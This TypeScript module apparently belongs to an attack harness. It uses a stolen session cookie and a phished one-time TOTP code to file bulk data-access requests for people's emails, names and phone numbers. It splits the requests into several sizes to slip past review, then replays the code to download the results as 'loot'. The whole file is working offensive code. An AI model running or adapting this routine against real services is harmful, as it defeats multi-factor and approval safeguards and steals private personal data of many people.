/**
 * D2: a session, and one live code of the vault's that its owner was talked into typing elsewhere. Asks for as many people
 * as it may, opens with the code, and tries the code again for others.
 */
import { type Haul, haulOf } from '../loot.ts'
import { atDesk, fileRequest, listPeople } from './desk.ts'

export interface RelayHolds {
  readonly url: string
  readonly desk: string
  readonly cookie: string
  readonly member: number
  readonly project: number
  /** Whom it leaves alone, because it was told that these are made up. */
  readonly avoid?: readonly string[]
  /** The victim types it once. */
  readonly code: () => Promise<string>
}

export const sealedFields = ['$distinct_id', '$email', '$name', '$phone'] as const

export async function relayedCode({ url, desk, cookie, member, project, avoid = [], code }: RelayHolds): Promise<Haul> {
  const headers = { cookie }
  const { people: all, text } = await listPeople(url, headers, project)
  const people = all.filter((one) => !avoid.includes(one))
  const texts = [text]
  // The largest request that one may open alone, and larger ones in case that it is not looked at.
  const requests: string[] = []
  for (const count of [people.length, 50, 20, 10, 10, 10]) {
    const start = requests.length * 10 % Math.max(1, people.length - count)
    const { id } = await fileRequest(url, headers, project, { people: people.slice(start, start + count), fields: sealedFields })
    if (id !== '') requests.push(id)
  }
  const shown = { member, factor: 'totp', code: await code() }
  for (const id of requests) {
    for (const what of ['open', 'open.csv', 'open.json']) texts.push((await atDesk(desk, `requests/${id}/${what}`, shown)).text)
  }
  return haulOf({ texts, streams: all })
}
